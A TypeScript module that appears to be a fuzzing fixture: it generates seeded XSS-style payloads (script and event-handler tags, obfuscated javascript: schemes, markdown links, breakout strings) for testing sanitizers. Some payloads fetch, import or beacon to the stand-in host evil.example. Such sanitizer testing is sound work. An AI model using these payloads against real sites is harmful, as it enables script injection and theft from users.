// Strings that somebody would send to make a page run or load something: a grammar of our own, drawn by a seed. Whatever they run says
// so: `alert`, `ran`, a console line, or a request to evil.example.

/** A repeatable source of numbers below 1 (mulberry32). */
export function drawFrom(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

const code = [
  'alert(1)',
  'window.ran=1',
  'console.log(1)',
  'fetch("https://evil.example/f")',
  "document.body.append('ran')",
  'alert`1`',
  'top[`al`+`ert`](1)',
  'import("https://evil.example/m.js")',
  'new Image().src="//evil.example/i"',
]
const tags = [
  ...[
    'script',
    'img',
    'svg',
    'iframe',
    'object',
    'embed',
    'video',
    'audio',
    'body',
    'a',
    'p',
    'b',
    'x',
    'math',
    'style',
  ],
  ...[
    'input',
    'details',
    'marquee',
    'form',
    'button',
    'textarea',
    'title',
    'noscript',
    'template',
    'select',
    'xmp',
  ],
  ...[
    'plaintext',
    'base',
    'link',
    'meta',
    'isindex',
    'keygen',
    'table',
    'image',
    'noembed',
    'frameset',
    'br',
    'li',
    'code',
  ],
]
const events = [
  ...[
    'onerror',
    'onload',
    'onclick',
    'onmouseover',
    'onfocus',
    'ontoggle',
    'onstart',
    'onanimationstart',
    'onbegin',
  ],
  ...[
    'onpointerenter',
    'onpageshow',
    'ONERROR',
    'on\u0000error',
    'onwheel',
    'onscrollend',
    'oncontentvisibilityautostatechange',
  ],
]
const schemes = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    ' javascript:',
    'javascript&colon;',
  ],
  ...[
    '&#106;avascript:',
    '&#x6A;avascript:',
    'java&Tab;script:',
    'data:text/html,',
    'data:text/html;base64,',
    'vbscript:',
  ],
  ...[
    '//evil.example/',
    'https://evil.example/',
    'blob:',
    'file:///',
    'javascript\u200b:',
    'feed:javascript:',
    'jar:javascript:',
  ],
  ...[
    'https://javascript:',
    'mailto:a@b?',
    'http:javascript:',
    '\\\\evil.example\\',
    'view-source:javascript:',
    'x-y:',
  ],
]
const breakers = [
  ...[
    '"',
    "'",
    '`',
    '>',
    '">',
    "'>",
    '-->',
    '--!>',
    ']]>',
    '</',
    '/>',
    '</p>',
    '</script>',
    '</textarea>',
    '</title>',
    '</style>',
  ],
  ...[
    '</a>',
    '</xmp>',
    '</noscript>',
    '<!--',
    '<![CDATA[',
    '<?',
    '<!',
    '&gt;',
    '&#62;',
    '&#x3e',
    '\u003e',
    '%3e',
    '\uff1e',
  ],
  ...[
    '<<',
    '<\u0000',
    '\r\n\r\n',
    '\t',
    '\u2028',
    '\u00a0',
    '\\',
    '\\"',
    '\u202e',
    '\ufeff',
    '</svg>',
    '</math>',
    '<br/>',
  ],
]
const markdown = [
  '[x](',
  '![x](',
  '<',
  '[x]: ',
  '**',
  '`',
  '```',
  '~~~',
  '> ',
  '- ',
  '1. ',
  '\n\n',
  '    ',
  '[a][b]\n\n[b]: ',
  '](',
  '[![a](',
]

type Draw = () => number
const pick = <T>(draw: Draw, list: readonly T[]): T => list[Math.floor(draw() * list.length)] as T

const value = (draw: Draw): string => (draw() < 0.5 ? pick(draw, schemes) : '') + pick(draw, code)

function attribute(draw: Draw): string {
  const quote = pick(draw, ['"', "'", '', '`'])
  const name =
    draw() < 0.6
      ? pick(draw, events)
      : pick(draw, [
          'src',
          'href',
          'style',
          'srcdoc',
          'xlink:href',
          'action',
          'formaction',
          'data',
          'srcset',
          'poster',
          'background',
          'ping',
          'autofocus',
          'id',
        ])
  return `${name}${pick(draw, ['=', ' = ', '\n=', '=\t'])}${quote}${value(draw)}${quote}`
}

function element(draw: Draw): string {
  const tag = pick(draw, tags)
  const gap = pick(draw, [' ', '/', '\n', '\t', '\u000c', '/x/'])
  const attributes = Array.from({ length: Math.floor(draw() * 4) }, () => attribute(draw)).join(
    pick(draw, [' ', '/']),
  )
  const inner = draw() < 0.4 ? pick(draw, code) : ''
  const end = pick(draw, ['>', '/>', '', ' >', `>${inner}</${tag}>`, `>${inner}</${tag.toUpperCase()} x>`])
  return `${pick(draw, ['<', '<', '<', '&lt;', '< ', '<\u200b', '\uff1c'])}${tag}${gap}${attributes}${end}`
}

const link = (draw: Draw): string =>
  `${pick(draw, markdown)}${value(draw)}${pick(draw, [')', '>', ' "t")', " 't' onclick=alert(1))", '', '"onmouseover="alert(1))'])}`

/** One string: pieces of elements, links, marks and what breaks out of them. */
function hostileString(draw: Draw): string {
  const parts = [
    element,
    element,
    link,
    (d: Draw) => pick(d, breakers),
    (d: Draw) => pick(d, markdown),
    value,
  ]
  const length = 1 + Math.floor(draw() * 5)
  return Array.from({ length }, () => pick(draw, parts)(draw)).join(pick(draw, ['', '', ' ', '\n']))
}

/** So many of them; the same for the same seed. */
export function hostileStrings(count: number, seed: number): string[] {
  const draw = drawFrom(seed)
  return Array.from({ length: count }, () => hostileString(draw))
}

/** An address that passes for one, with something in it. */
export function hostileUrl(text: string, at: number): string {
  const forms = [
    text,
    `https://a.example/${text}`,
    `https://a.example/?q=${encodeURIComponent(text)}`,
    `http://a.example/#${text.replace(/\s/g, '')}`,
  ]
  return (forms[at % forms.length] ?? text).slice(0, 1900)
}
